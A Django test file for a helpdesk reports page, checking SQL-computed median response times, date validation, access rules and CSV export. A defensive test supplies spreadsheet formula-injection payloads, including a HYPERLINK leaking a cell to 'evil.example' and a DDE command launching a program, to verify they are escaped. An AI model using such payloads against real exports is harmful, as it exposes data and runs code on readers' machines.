"""The reports page: SQL medians per workspace, per agent and per website, as charts and CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import User
from conftest import host_client
from inbox import report_views, reports, services
from inbox.models import Conversation
from tenants.context import run_in_workspace
from tenants.models import Membership

pytestmark = pytest.mark.django_db


@pytest.fixture
def history(workspace_a, owner_a):
    """Three conversations today: first replies after 1, 3 and 5 minutes; two resolved after 1 and 3 hours."""

    def make():
        website, _ = services.website_create(workspace=workspace_a, name="Shop", allowed_origins="")
        now = timezone.now().replace(hour=12)
        for i, (reply_minutes, resolve_hours) in enumerate([(1, 1), (3, 3), (5, None)]):
            contact, _ = services.contact_for_visitor(website=website, token=None)
            conversation = Conversation.objects.create(
                website=website, contact=contact, assignee_id=owner_a.pk if i < 2 else None,
                last_message_at=now, first_agent_reply_at=now + timedelta(minutes=reply_minutes),
                resolved_at=now + timedelta(hours=resolve_hours) if resolve_hours else None,
            )  # fmt: skip
            Conversation.objects.filter(pk=conversation.pk).update(created_at=now)  # auto_now_add otherwise
        # And one a week ago, outside a range of today only.
        Conversation.objects.filter(pk=Conversation.objects.create(
            website=website, contact=contact, last_message_at=now).pk
        ).update(created_at=now - timedelta(days=7))  # fmt: skip

    run_in_workspace(workspace_a.schema_name, make)


def test_medians_come_from_sql_per_agent_and_website(workspace_a, history):
    today = timezone.localdate()
    with CaptureQueriesContext(connection) as captured:
        report = run_in_workspace(workspace_a.schema_name, reports.report, start=today, end=today)
    assert report.total == 3 and report.per_day == [(today, 3)]
    assert report.median_first_response == timedelta(minutes=3)
    assert report.median_resolution == timedelta(hours=2)  # of 1 h and 3 h
    assert [(b.name, b.conversations, b.median_first_response) for b in report.per_agent] == [
        ("Ana Owner", 2, timedelta(minutes=2)),
        ("Unassigned", 1, timedelta(minutes=5)),
    ]
    assert [(b.name, b.conversations) for b in report.per_website] == [("Shop", 3)]
    assert len(captured) <= 7  # aggregates, not a query per conversation

    week = run_in_workspace(
        workspace_a.schema_name, reports.report, start=today - timedelta(days=7), end=today
    )
    assert week.total == 4 and len(week.per_day) == 8 and week.per_day[0][1] == 1


def test_the_page_draws_a_chart_and_the_csv_has_the_same_numbers(client_a, history):
    today = timezone.localdate().isoformat()
    page = client_a.get(f"/reports/?start={today}&end={today}").content.decode()
    assert "<svg" in page and "3 min" in page and "2 h" in page and "Ana Owner" in page

    response = client_a.get(f"/reports/?start={today}&end={today}&format=csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["total", f"{today} to {today}", "3", "180", "7200"]
    assert ["agent", "Ana Owner", "2", "120", "7200"] in rows and ["day", today, "3", "", ""] in rows


@pytest.mark.parametrize(
    ("query", "message"),
    [("start=2026-13-01", "dates are written 2026-11-25"), ("start=2026-1-5", "dates are written"),
     ("end=9999-12-31", "dates are from 2000-01-01"), ("start=0001-01-01", "dates are from 2000-01-01"),
     ("start=2026-05-02&end=2026-05-01", "start comes before"),
     ("start=2020-01-01&end=2026-01-01", "At most 366")],
)  # fmt: skip
def test_bad_ranges_are_explained(client_a, query, message):
    response = client_a.get(f"/reports/?{query}")
    assert response.status_code == 200 and message in response.content.decode()


def test_agents_do_not_see_reports(workspace_a, owner_b):
    Membership.objects.create(user=owner_b, workspace=workspace_a, role=Membership.Role.AGENT)
    assert host_client("alpha.localhost", owner_b).get("/reports/").status_code == 403


FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\tTab", "\rReturn"]  # fmt: skip


def test_names_that_look_like_formulas_are_text_in_the_csv(client_a, workspace_a):
    """An agent's display name and a website's name are the users' own text: a spreadsheet opening the
    managers' CSV must show them, not run them; counts and seconds stay numbers."""
    today = timezone.localdate()

    def make():
        now = timezone.now().replace(hour=12)
        for i, name in enumerate(FORMULAS):
            agent = User.objects.create_user(f"formula-{i}@example.com", "pw-irrelevant", display_name=name)
            website, _ = services.website_create(workspace=workspace_a, name=name, allowed_origins="")
            contact, _ = services.contact_for_visitor(website=website, token=None)
            conversation = Conversation.objects.create(
                website=website, contact=contact, assignee_id=agent.pk, last_message_at=now,
                first_agent_reply_at=now + timedelta(minutes=2),
            )  # fmt: skip
            Conversation.objects.filter(pk=conversation.pk).update(created_at=now)

    run_in_workspace(workspace_a.schema_name, make)
    response = client_a.get(f"/reports/?start={today}&end={today}&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    for name in FORMULAS:
        assert ["agent", f"'{name}", "1", "120", ""] in rows
        if name == name.strip():  # the website service strips its name's blanks
            assert ["website", f"'{name}", "1", "120", ""] in rows
    assert rows[1] == ["total", f"{today} to {today}", str(len(FORMULAS)), "120", ""]
    # No cell of the file starts like a formula any more.
    cells = [cell for line in rows for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_cells_keep_numbers_and_escape_text():
    assert report_views.csv_cell(-5) == -5 and report_views.csv_cell(0) == 0
    assert report_views.csv_cell("-5") == "'-5"  # text from a user, even if it reads as a number
    assert report_views.csv_cell(None) == "" and report_views.csv_cell("Ana") == "Ana"
